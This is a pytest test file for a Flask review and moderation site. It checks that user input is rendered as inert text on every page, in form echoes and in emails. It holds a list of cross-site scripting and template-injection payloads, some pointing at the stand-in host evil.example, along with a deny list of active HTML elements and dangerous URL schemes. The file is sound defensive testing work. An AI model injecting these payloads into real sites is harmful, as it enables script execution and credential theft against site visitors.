"""What visitors type is shown as words: nothing of it becomes an element, an acting attribute or a script, on any page that shows it."""

from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from flask import Flask
from sqlmodel import Session, select

from directory import jobs
from directory.core import clock
from directory.core.text import article, markdown
from directory.models.moderation import Decision, DecisionAction, ReasonClass, Report, ReportKind
from directory.models.ops import KeptMail
from directory.moderation import service as moderation
from directory.moderation.rules import Target, TargetKind
from directory.reviews import service as reviews
from tests.clients import Visitor, words_of
from tests.factories import Make

#: Ways by which words have become code: plain, in attributes, in JSON, in Markdown, by mutation when parsed twice, in templates.
PAYLOADS = (
    "<script>xss()</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "</script><script>xss()</script>",
    '"><img src=x onerror=xss()>',
    "' onmouseover='xss()' x='",
    "<svg/onload=xss()>",
    "<svg><animate onbegin=xss() attributeName=x>",
    "<iframe srcdoc='<script>xss()</script>'>",
    "<a href='java\tscript:xss()'>x</a>",
    "<form action=//evil.example><input name=password>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=xss()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<textarea></textarea><script>xss()</script>",
    "</title><script>xss()</script>",
    "<!--><script>xss()</script>-->",
    "[x](javascript:xss())",
    "[x](<java&#115;cript:xss()>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '![x](x"onerror="xss())',
    "<javascript:xss()>",
    "[x]: javascript:xss()\n\n[x]",
    "{{ config }}{% print(7*7) %}${7*7}",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "\u2028</script><script>xss()</script>",
)

#: Elements that act by being there; our own pages use script (with src), link and meta in their head only.
ACTIVE = {
    "iframe",
    "object",
    "embed",
    "base",
    "style",
    "frame",
    "frameset",
    "applet",
    "math",
    "animate",
    "set",
    "foreignobject",
    "noscript",
}
SCHEMES = ("javascript:", "data:", "vbscript:")
#: What our own markup may point to elsewhere.
OURS = ("/", "#", "http://localhost", "https://video.example", "mailto:")


class _Watcher(HTMLParser):
    """Names everything in a page that could act and is not ours."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._json = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: (value or "") for name, value in attrs}
        said = self.get_starttag_text() or tag
        self._json = tag == "script" and given.get("type") == "application/ld+json"
        if tag in ACTIVE or (tag == "script" and not self._json and not given.get("src", "").startswith("/static/")):
            self.found.append(said)
        if tag == "meta" and "http-equiv" in given:
            self.found.append(said)
        for name, value in given.items():
            where = "".join(value.split()).lower()
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.found.append(said)
            if name in {"href", "src", "action", "xlink:href", "poster"} and (where.startswith(SCHEMES) or "evil.example" in where):
                self.found.append(said)

    def handle_data(self, data: str) -> None:
        if self._json and "<" in data:
            self.found.append(data[:80])
        self._json = False


def dangers(html: str) -> list[str]:
    """Return what could act in a page and is not ours."""
    watcher = _Watcher()
    watcher.feed(html)
    watcher.close()
    return watcher.found


@pytest.mark.parametrize("planted", [PAYLOADS[number] for number in (0, 1, 3, 4, 5, 7, 8, 9, 10, 11, 12)])
def test_a_planted_offender_is_seen(planted: str) -> None:
    """The watcher bites on each way that a page could fail."""
    quoted = f"<p title='{planted}'>" if planted.startswith("'") else planted
    assert dangers(f"<!doctype html><html><body><div>{quoted}</div></body></html>")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_is_only_ever_words(payload: str) -> None:
    """Seen to fail with html switched on in the renderer and the allow-list taken out."""
    for html in (markdown(payload), article(payload), markdown(f"# {payload}\n\n- {payload}\n\n> {payload}")):
        assert dangers(html) == []


def world(session: Session, make: Make) -> Iterator[str]:
    """Write every payload into every field that anybody may fill, and yield the paths of all pages that show one."""
    ada, guide, moderator = make.profile("Ada Marsh", about="".join(PAYLOADS)[:4000]), make.guide(), make.moderator("Mo")
    for number, payload in enumerate(PAYLOADS):
        author = make.user(f"{number} {payload}"[:60])
        named = make.profile(f"{number} {payload}"[:200])
        review = make.review(profile=ada, author=author, title=payload[:120], body=f"{payload}\n\n{payload} and enough words for a review.")
        make.review(profile=named, author=author, body=payload)
        reviews.refresh_rating(session, named)
        comment = make.comment(profile=ada, author=author, body=payload)
        make.comment(guide=guide, author=author, body=payload)
        given = {"kind": ReportKind.OTHER, "text": payload, "reporter_name": payload[:100], "created_at": clock.now()}
        report = Report(review_id=review.id, reporter_email=f"r{number}@readers.example", **given)
        session.add(report)
        session.flush()
        moderation.decide(
            session,
            moderator_id=moderator.id,
            target=Target(TargetKind.REVIEW, review.id),
            action=DecisionAction.KEEP,
            reason_class=ReasonClass.NO_RULE_BROKEN,
            reason=payload,
            report_id=report.id,
        )
        yield from (
            f"/p/{named.slug}",
            f"/p/{named.slug}/reviews",
            f"/p/{named.slug}/comments",
            f"/p/{named.slug}/review",
            f"/p/{named.slug}/comment",
        )
        yield from (f"/report/profile/{named.slug}", f"/report/review/{review.id}", f"/report/comment/{comment.id}")
        yield from (f"/moderation/reports/{report.id}", f"/moderation/reviews/{review.id}", f"/moderation/users/{author.id}")
    reviews.refresh_rating(session, ada)
    yield from (f"/p/{ada.slug}", f"/p/{ada.slug}/comments", f"/guides/{guide.slug}/", f"/guides/{guide.slug}/comments")
    yield from (f"/p/{ada.slug}/reviews", f"/p/{ada.slug}/reviews?page=2", "/moderation", "/moderation?page=2")
    yield from (
        "/moderation/decisions",
        "/moderation/decisions?page=2",
        "/moderation/people?q=script",
        "/moderation/people?q=%22%3E%3Csvg/onload=xss()%3E",
    )


def test_no_field_acts_on_any_page_that_shows_it(session: Session, make: Make, app: Flask) -> None:
    """Stored: the whole corpus in every field. Seen to fail with `|safe` on a title, a name, a comment, a report or a reason."""
    paths = list(dict.fromkeys(world(session, make)))
    visitor = Visitor(app).sign_in(make.moderator("Priya"))
    seen = ""
    for path in paths:
        app.extensions["hairline_limits"].reset()  # nobody opens all pages of a site within a minute
        page = visitor.get(path)
        assert page.status_code == 200, path
        assert dangers(page.text) == [], path
        assert "script-src 'self'" in page.headers["Content-Security-Policy"]
        seen += words_of(page)
    assert "<svg/onload=xss()>" in seen, "it is shown as words"
    assert "{{ config }}" in seen


def test_what_was_typed_comes_back_as_words(session: Session, make: Make, app: Flask) -> None:
    """Reflected: forms that are shown again hold what was typed. Seen to fail with `|safe` on a value."""
    ada = make.profile()
    visitor = Visitor(app).sign_in(make.user())
    for payload in PAYLOADS:
        typed = {"title": (payload * 20)[:200], "body": payload, "month": payload[:40]}
        pages = [
            visitor.send(f"/p/{ada.slug}/review", **typed),
            visitor.send(f"/p/{ada.slug}/comment", body=payload * 200),
            visitor.send(f"/report/profile/{ada.slug}", text=payload, name=payload * 10, email=payload),
        ]
        for page in pages:
            assert page.status_code == 422
            assert dangers(page.text) == []


def test_mails_hold_words_alone(session: Session, make: Make, app: Flask) -> None:
    """A statement of reasons goes out as HTML too. Seen to fail with `|safe` on the reason."""
    moderator = make.moderator()
    for number, payload in enumerate(PAYLOADS):
        review = make.review(profile=make.profile(f"{number} {payload}"[:200]), body=payload, title=payload[:120])
        target = Target(TargetKind.REVIEW, review.id)
        row = moderation.report(
            session, target=target, kind=ReportKind.OTHER, text=payload, email=f"r{number}@readers.example", name=payload[:100]
        )
        given = {"action": DecisionAction.HIDE, "reason_class": ReasonClass.ABUSE, "reason": payload}
        moderation.answer(session, moderator_id=moderator.id, report_id=row.id, **given)
    session.commit()
    jobs.run_due(app)
    mails = session.exec(select(KeptMail)).all()
    assert len(mails) == 3 * len(PAYLOADS), "receipt, decision, statement of reasons"
    assert len(session.exec(select(Decision)).all()) == len(PAYLOADS)
    for mail in mails:
        assert dangers(mail.html) == ["<style>"], "our own look and nothing else"
        assert "\n" not in mail.subject
    receipts = [mail.text for mail in mails if mail.subject == "We have your report"]
    assert len(receipts) == len(PAYLOADS)
    assert not [text for text in receipts for payload in PAYLOADS if payload in text], (
        "the address may be anybody's: nothing typed goes there"
    )
